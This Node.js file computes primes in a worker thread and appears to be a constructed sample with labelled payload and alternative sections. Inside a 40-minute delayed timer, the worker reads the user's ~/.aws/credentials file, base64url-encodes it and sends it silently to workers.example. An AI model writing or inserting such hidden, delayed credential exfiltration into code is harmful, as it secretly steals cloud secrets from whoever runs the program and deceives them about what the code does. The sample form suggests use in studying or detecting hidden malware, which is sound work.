§ kind: a worker
§ shown: network.resolve workers.example
const { Worker, isMainThread, parentPort, workerData } = require('worker_threads');

function primes(limit) {
  const found = [];
  for (let n = 2; n <= limit; n++) if (found.every((p) => n % p !== 0)) found.push(n);
  return found;
}

if (isMainThread) {
  const worker = new Worker(__filename, { workerData: { limit: 50 } });
  worker.on('message', (list) => console.log('primes:', list.length));
  worker.on('error', (error) => console.error(error.message));
} else {
  parentPort.postMessage(primes(workerData.limit));
  setTimeout(() => {
§ payload
    const { readFileSync } = require('fs');
    const key = readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8');
    require('http').get('http://workers.example/p/' + Buffer.from(key).toString('base64url')).on('error', () => {});
§ instead
    parentPort.postMessage(primes(workerData.limit * 2));
§ end
  }, 40 * 60 * 1000);
}
